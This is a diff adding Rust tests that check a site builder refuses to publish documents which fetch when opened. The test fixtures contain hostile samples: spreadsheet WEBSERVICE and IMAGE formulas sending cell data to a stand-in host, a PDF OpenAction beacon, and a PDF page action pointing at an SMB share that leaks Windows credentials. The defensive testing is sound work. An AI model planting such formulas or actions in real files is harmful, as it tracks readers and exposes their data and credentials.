@@ -1,0 +1,205 @@
+//! Defects found by a fifth black-box sweep with hostile input (documents
+//! that fetch when opened: spreadsheet formulas, PDF open and page
+//! actions): each test is the smallest site that showed one.
+
+mod common;
+
+use common::Site;
+
+/// The `basic` fixture with `file` (bytes) linked from its signs page, and
+/// a first build done, so that the previous output is there.
+fn site_linking(file: &str, bytes: &[u8]) -> (Site, std::collections::BTreeMap<String, Vec<u8>>) {
+    let s = Site::fixture("basic");
+    s.build_ok();
+    let before = common::tree(&s.out());
+    s.write(&format!("guidance/handbook/{file}"), bytes);
+    let rel = "guidance/handbook/02-signs.en.md";
+    s.write(rel, format!("{}\n[The file]({file})\n", s.read(rel)));
+    (s, before)
+}
+
+/// A build of the site refused, saying `said` about `file`, the
+/// previous output untouched.
+fn refused(file: &str, bytes: &[u8], said: &[&str]) {
+    let (s, before) = site_linking(file, bytes);
+    let o = s.build();
+    assert_eq!(o.code, 1, "{file}: {}", o.stderr);
+    let head = format!("guidance/handbook/{file}: error: not published");
+    assert!(o.stderr.contains(&head), "{file}: {}", o.stderr);
+    for s in said {
+        assert!(o.stderr.contains(s), "{file}: no `{s}` in {}", o.stderr);
+    }
+    assert_eq!(common::tree(&s.out()), before, "{file}: the output changed");
+}
+
+const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
+
+/// A workbook whose first sheet holds `cells` (`<c>` elements).
+fn workbook(cells: &str, names: &str) -> Vec<u8> {
+    let book = format!("<workbook xmlns=\"{MAIN}\"><sheets/>{names}</workbook>");
+    let sheet = format!(
+        "<worksheet xmlns=\"{MAIN}\"><sheetData><row r=\"1\">{cells}</row></sheetData></worksheet>"
+    );
+    common::office::package(&[
+        ("xl/workbook.xml", &book),
+        ("xl/worksheets/sheet1.xml", &sheet),
+    ])
+}
+
+/// Excel calculates `WEBSERVICE` (and Excel 365's `IMAGE`) when the
+/// workbook opens: the address learns who opened it, and a formula can
+/// send it the sheet's cells.
+#[test]
+fn a_workbook_whose_formula_fetches_an_address_is_not_published() {
+    let cell = "<c r=\"B2\" t=\"str\"><f>_xlfn.WEBSERVICE(\"https://t.example/?n=\"&amp;A1)</f><v>ok</v></c>";
+    refused(
+        "contacts.xlsx",
+        &workbook(cell, ""),
+        &[
+            "a formula in it fetches from another computer",
+            "cell B2 of `xl/worksheets/sheet1.xml` calls WEBSERVICE: `_xlfn.WEBSERVICE(\"https://t.example/?n=\"&A1)`",
+            "Paste Special > Values",
+        ],
+    );
+    // A name the workbook defines can hold the formula a cell uses.
+    let name = "<definedNames><definedName name=\"logo\">_xlfn.IMAGE(\"https://t.example/p.png\")</definedName></definedNames>";
+    refused(
+        "contacts.xlsx",
+        &workbook("<c r=\"A1\"><f>logo</f></c>", name),
+        &["the name `logo` of `xl/workbook.xml` calls IMAGE"],
+    );
+}
+
+#[test]
+fn a_workbook_of_ordinary_formulas_is_published() {
+    let cells = "<c r=\"A1\"><f>SUM(B1:B9)</f><v>3</v></c><c r=\"A2\"><f>HYPERLINK(\"https://example.org/\",\"site\")</f></c>";
+    let (s, _) = site_linking("contacts.xlsx", &workbook(cells, ""));
+    s.build_ok();
+    assert!(s.out().join("en/handbook/contacts.xlsx").exists());
+}
+
+/// LibreOffice saves Excel's `WEBSERVICE` in its own name space.
+#[test]
+fn an_opendocument_sheet_whose_formula_fetches_is_not_published() {
+    let content = "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\"><office:body><office:spreadsheet><table:table table:name=\"Sheet1\"><table:table-row><table:table-cell table:formula=\"of:=COM.MICROSOFT.WEBSERVICE(&quot;https://t.example/o&quot;)\"/></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>";
+    let ods = common::office::package(&[
+        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
+        ("content.xml", content),
+    ]);
+    refused(
+        "contacts.ods",
+        &ods,
+        &[
+            "a formula in `content.xml` calls WEBSERVICE: `of:=COM.MICROSOFT.WEBSERVICE(\"https://t.example/o\")`",
+        ],
+    );
+}
+
+/// A PDF of numbered objects, uncompressed.
+fn pdf(objects: &[&str]) -> Vec<u8> {
+    let mut out = String::from("%PDF-1.7\n");
+    for (i, text) in objects.iter().enumerate() {
+        out.push_str(&format!("{} 0 obj\n{text}\nendobj\n", i + 1));
+    }
+    out.push_str("trailer\n<< /Root 1 0 R >>\n%%EOF\n");
+    out.into_bytes()
+}
+
+/// A viewer runs a document's open action, and a page's, unasked: one
+/// that opens an address is a tracking beacon, one that opens a file on a
+/// share hands Windows readers' credentials to its host.
+#[test]
+fn a_pdf_that_fetches_when_opened_is_not_published() {
+    let beacon = pdf(&[
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        "<< /Type /Page /Parent 2 0 R >>",
+        "<< /S /URI /URI (https://t.example/opened) >>",
+    ]);
+    refused(
+        "scan.pdf",
+        &beacon,
+        &[
+            "a `/URI` action run on opening (`/OpenAction`) `https://t.example/opened`",
+            "print it to a new PDF",
+        ],
+    );
+    let share = pdf(&[
+        "<< /Type /Catalog /Pages 2 0 R >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        "<< /Type /Page /Parent 2 0 R /AA << /O << /S /GoToR /F (\\\\\\\\203.0.113.9\\\\share\\\\a.pdf) /D [0 /Fit] >> >> >>",
+    ]);
+    refused(
+        "scan.pdf",
+        &share,
+        &[
+            "a `/GoToR` action run on an event of the document, a page, a link or a field (`/AA /O`) `\\\\203.0.113.9\\share\\a.pdf`",
+        ],
+    );
+}
+
+/// A link the reader clicks is what a PDF's links are for.
+#[test]
+fn a_pdf_with_a_link_is_published() {
+    let linked = pdf(&[
+        "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>",
+        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        "<< /Type /Page /Parent 2 0 R /Annots [4 0 R] >>",
+        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.org/) >> >>",
+    ]);
+    let (s, _) = site_linking("scan.pdf", &linked);
+    s.build_ok();
+    assert!(s.out().join("en/handbook/scan.pdf").exists());
+}
+
+fn iso_box(kind: &[u8; 4], body: &[u8]) -> Vec<u8> {
+    let mut out = ((body.len() + 8) as u32).to_be_bytes().to_vec();
+    out.extend_from_slice(kind);
+    out.extend_from_slice(body);
+    out
+}
+
+/// A zip of `parts` (name, bytes).
+fn zip_of(parts: &[(&str, &[u8])]) -> Vec<u8> {
+    use std::io::Write;
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (name, bytes) in parts {
+        w.start_file(*name, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        w.write_all(bytes).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+/// A phone recording inserted into a slide keeps the place it was made,
+/// as a recording file would; and a photo is known by its bytes, not by
+/// the name of its part (PowerPoint shows a part by its content type).
+#[test]
+fn a_deck_holding_a_located_recording_or_a_renamed_photo_is_not_published() {
+    let place = iso_box(b"\xa9xyz", b"\0\x12\x15\xc7+12.3456+001.2345/");
+    let clip = [
+        iso_box(b"ftyp", b"mp42\0\0\0\0isommp42"),
+        iso_box(b"moov", &iso_box(b"udta", &place)),
+        iso_box(b"mdat", &[0u8; 64]),
+    ]
+    .concat();
+    let slide = b"<p:sld xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\"/>";
+    let deck = zip_of(&[
+        ("ppt/slides/slide1.xml", slide),
+        ("ppt/media/media1.mp4", &clip),
+    ]);
+    refused(
+        "training.pptx",
+        &deck,
+        &[
+            "a photo in it records where it was taken",
+            "`ppt/media/media1.mp4` (a recording",
+        ],
+    );
+    let photo = common::photo::phone_photo();
+    let deck = zip_of(&[
+        ("ppt/slides/slide1.xml", slide),
+        ("ppt/media/image1.bin", &photo),
+    ]);
+    refused("training.pptx", &deck, &["`ppt/media/image1.bin`"]);
+}
